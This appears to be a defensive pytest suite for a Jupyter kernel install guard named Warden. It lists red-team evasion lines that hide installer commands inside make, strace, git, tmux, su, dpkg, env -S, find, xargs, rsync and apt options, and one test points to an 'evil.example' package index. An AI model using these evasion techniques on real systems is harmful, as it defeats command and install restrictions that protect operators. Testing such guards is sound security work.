"""Red team 15: the shared getopt model of the program tables (schema/shell-runners.json,
installs/shell_runners.py and src/deps/shellrunners.ts) read options and command names the
way the programs do not (R15-1, R15-5, R15-7, R15-8).

Each malicious case run for real proves itself: the cell installs from the local index in a
kernel without Warden and is refused with it, the installer's name built by the inner shell
(``u$@v``) so no word names it.
"""

import os

import pytest
from launched import BUILT, installed, system_cell
from real_uv import real_uv

from jupyterlab_warden.kernel.guard.installs import commands, shell_runners

QUOTED = BUILT.replace("$@", "''")  # u''v: the inner shell's quotes build uv's name
COMMIT = "git -c user.name=a -c user.email=a@b commit -q --allow-empty -m "
REBASE = f"git init -q r && cd r && {COMMIT}one && {COMMIT}two && "


@pytest.mark.parametrize(
    "program, line",
    [
        # R15-1: make's -j/-l take a next word only when it is a number (getopt's `::`)
        ("make", "make -s -j --eval='x:;@" + BUILT.replace("$", "$$") + "' x"),
        ("make", "make -s --jobs --eval='x:;@" + BUILT.replace("$", "$$") + "' x"),
        # R15-7: strace's --quiet takes an attached value only; -o '|TEXT' popen()s TEXT
        # (quotes, not `$@`: a `$` in the word Warden misread as a program refused it already)
        ("strace", 'strace --quiet -o "|' + QUOTED + ' >&2; cat >/dev/null" true'),
        # R15-5: in git rebase -m is --merge, a flag: -x after it runs its text
        ("git", REBASE + "git rebase -q -m -x '" + BUILT + "' HEAD~1"),
        # R15-21: su's options as getopt reads them (a bundle ending in -c; the kernel is root)
        ("su", "su -mc '" + BUILT + "'"),
        ("su", "su -m --comm='" + BUILT + "'"),
        # R15-16: git runs trailer.<token>.cmd through sh -c when it adds that trailer
        (
            "git",
            "git init -q r && cd r && echo m > msg.txt && git -c 'trailer.x.cmd="
            + BUILT
            + " >&2; echo v' interpret-trailers --trailer x msg.txt",
        ),
    ],
)
def test_an_option_read_with_the_wrong_arity_no_longer_hides_command_text(kernel, program, line):
    kernel.proves_command_text_refused(program, line)


@pytest.mark.parametrize(
    "line",
    [
        "make -j --eval='x:;@u$$@v sync' x",
        "make --jobs --eval='x:;@u$$@v sync' x",
        "make -l --eval='x:;@u$$@v sync' x",
        "make --load-average --eval='x:;@u$$@v sync' x",
        "MAKEFLAGS='-j --eval=x:;@u$$@v' make x",
        "strace --quiet -o \"|u''v sync\" true",
        "strace --silent -o \"|u''v sync\" true",
        "git rebase -m -x 'u$@v sync' HEAD~1",
        "git rebase -m --exec='u$@v sync' HEAD~1",
        "git -C . rebase --merge -x 'u$@v sync' HEAD~1",
        # deny by default: a valued option's next word that names a dangerous option (of a
        # subcommand outside git's generated tables: commit's -m takes any next word, keys18)
        "git show -j -x 'u$@v sync'",
        "git show -j --exec='u$@v sync'",
        # R15-8: tmux resolves a command word by unique prefix
        "tmux -L s new-s -d 'u$@v sync'",
        "tmux -L s new-ses -d 'u$@v sync'",
        "tmux -L s new -d 'sleep 3' \\; run-sh 'u$@v sync'",
        "tmux -L s new -d 'sleep 3' \\; respawn-pa -k 'u$@v sync'",
        "tmux split-w 'u$@v sync'",
        "tmux source-f /tmp/t.conf",
        # R15-21: su/runuser option spellings; an option the complete table does not list
        "su -mc 'u$@v sync'",
        "su -m -c'u$@v sync'",
        "su -m --comm='u$@v sync'",
        "su -m --session-command='u$@v sync'",
        "runuser -m root --session-command='u$@v sync'",
        "su -Z x",
        # R15-18: dpkg's status logger is shell text; its table is complete
        "dpkg --status-logger='u$@v sync' --configure -a",
        "dpkg --status-l='u$@v sync' --configure -a",
        "dpkg --bogus-option -i x.deb",
        # R15-25: env -S's ${VAR} (env expands it from its own environment); its escapes are
        # read as env reads them (red team 51a: test_env_split_escapes_are_read below)
        "env -S '${A}v sync'",
        # R15-20: a found file as the program
        "find /opt -inum 1234 -exec {} run --with torcj python \\;",
        "find /opt -inum 1234 -execdir env {} sync \\;",
        "find /opt -size 9k -ok ./{} sync \\;",
        # R15-19: xargs' input as the program
        "printf x | xargs env",
        "printf x | xargs -n1 nice",
        "printf x | xargs timeout 60",
        "printf x | xargs sudo",
        "printf x | xargs su",
        "printf x | xargs -I% % run",
        "printf x | xargs --replace env {} sync",
        # R15-16, R15-23, R15-6: a settings key, a variable and a config file that run commands
        "git -c 'trailer.x.command=u$@v sync' commit --trailer x -m m",
        "RSYNC_CONNECT_PROG='u$@v sync' rsync rsync://h/m/ .",
        "man -C m.conf -l page.1",
        "MANOPT='--config-file=m.conf' man ls",
        # R15-13: apt's keys by any spelling apt reads (legacy, case, dashes)
        "apt-get -o Acquire::http::ProxyAutoDetect=/tmp/pad.sh update",
        "apt-get -o acquire::http::Proxy_Auto-detect=/tmp/pad.sh update",
        "apt-get -o APT::Sandbox::User=root update",
    ],
)
def test_decision_refuses_the_variants(line):
    with pytest.raises(commands.Unreadable):
        commands.shell_invocations(line)


def test_env_split_escapes_are_read():
    # red team 51a: env -S's escapes are split as env splits them (installs/env_split.py):
    # `\_` separates words, `\v` is a vertical tab inside the word
    read = commands.program_argv(["env", "-S", "uv\\_pip\\_install\\_torcj"])
    assert read == ["uv", "pip", "install", "torcj"]
    assert commands.program_argv(["env", "--split-string=u\\v sync"]) == ["u\v", "sync"]


@pytest.mark.parametrize(
    "line",
    [
        "make -j4",
        "make -j 4 all",
        "make -j",
        "make --jobs=4 -l 2.5 all",
        "MAKEFLAGS=-j4 make -C build",
        "git rebase -i HEAD~3",
        "git commit -m msg",
        "git checkout -m main",
        "strace -o trace.txt ls",
        "strace --quiet=attach -f ls",
        "tmux ls",
        "tmux new -s work",
        "tmux display -p '#S'",
        "tmux attach -t work",
        "split -l 100 data.csv part_",
        "comm a b",
        "su - root",
        "su -c 'ls -l' root",
        "runuser -u nobody -- ls",
        "sudo apt-get install -y libgl1",
        "dpkg -i x.deb",
        "dpkg --force-confold,confdef -i x.deb",
        "dpkg -l",
        "dpkg --configure -a",
        "dpkg -s bash",
        "env -S 'python3 -u' x.py",
        "find . -name '*.py' -exec wc -l {} \\;",
        "ls | xargs rm",
        "ls | xargs -0 -I{} cp {} /tmp",
        "ls | xargs -n1 nice rm",
        "ls | xargs -r timeout 5 wc -l",
        "apt-get -o Acquire::Retries=3 -o Dpkg::Use-Pty=0 install -y libgl1",
        "man ls",
        "git -c trailer.sign.key=Signed-off-by log",
    ],
)
def test_ordinary_lines_of_these_programs_pass(line):
    assert commands.shell_invocations(line) == []


def test_optional_values_are_attached_or_a_matching_next_word():
    """R15-1: `-j4`, `--jobs=4`, `-j 4`: the value; `-j x`: x is an operand (a target)."""
    assert shell_runners.read("make", ["-j", "--eval=x"]).refused
    assert not shell_runners.read("make", ["-j", "4", "x"]).refused
    assert shell_runners.read("strace", ["--quiet", "-o", "|t", "true"]).texts == ["t"]
    assert shell_runners.read("git", ["rebase", "-m", "-x", "t"]).texts == ["t"]
    # tmux's own resolution: an exact alias first (display is display-message), then a
    # unique prefix of a full name; an ambiguous prefix is tmux's error, read as data
    assert shell_runners.read("tmux", ["new-s", "-d", "t"]).texts == ["t"]
    assert shell_runners.read("tmux", ["display", "-p", "t"]).texts == []
    assert shell_runners.read("tmux", ["re", "t"]).texts == []


@pytest.mark.parametrize(
    "line", ["su -lc \"u''v sync\"", "su -m -cuv\\ sync", "su -m --comm='uv sync'"]
)
def test_su_text_in_any_spelling_is_read_as_the_shell_line_it_is(line):
    """R15-21: the text su hands the shell is read: the install in it is found (and decided)."""
    assert [i.tool for i in commands.shell_invocations(line)] == ["uv"]


SPLIT = "uv pip install -q --no-config --no-cache --target {target} --index-url {index} "
SPLIT += "warden-demo-pkg"


@pytest.mark.parametrize(
    "line",
    [
        # R15-25: env -S splits at `\_` (the installer's name written out: env's split is the
        # one Warden did not read)
        "env -S '" + SPLIT.replace(" ", "\\_") + "'",
        # R15-20: find runs the file it finds by inode (a literal number) as the program: uv
        # runs python with the package from the index (the import marks it installed)
        "find "
        + os.path.dirname(real_uv())
        + " -maxdepth 1 -inum "
        + str(os.stat(real_uv()).st_ino)
        + " -exec {{}} run -q --no-project --no-config --no-cache --index-url {index} --with"
        + " warden-demo-pkg python -c 'import warden_demo_pkg_mod, os; os.makedirs(\"{target}/"
        + "warden_demo_pkg\")' \\;",
        # R15-19: xargs env: the program is xargs' input, built by printf
        "printf '%sv p%sip install -q --no-config --no-cache --target {target} --index-url "
        "{index} warden-demo-pkg' u '' | xargs env",
    ],
)
def test_a_program_taken_from_input_or_env_split_is_refused_before_it_installs(kernel, line):
    installed("find")
    kernel.proves(system_cell(line))


@pytest.mark.parametrize("option", ["--python-preference", "--preview-features"])
def test_uvx_hidden_valued_options_take_their_value(option):
    """R15-14: uv's global options hidden from `--help` take a value before the tool's name:
    the index and the package after them are uv's own, read as such."""
    from jupyterlab_warden.kernel.guard.installs.gate import read_requests

    argv = ["uvx", option, "system", "--index-url", "https://evil.example/simple"]
    (request,) = read_requests(argv + ["--from", "torcj", "black"], None, {}, "/")
    assert "torcj" in [r.name for r in request.requirements]
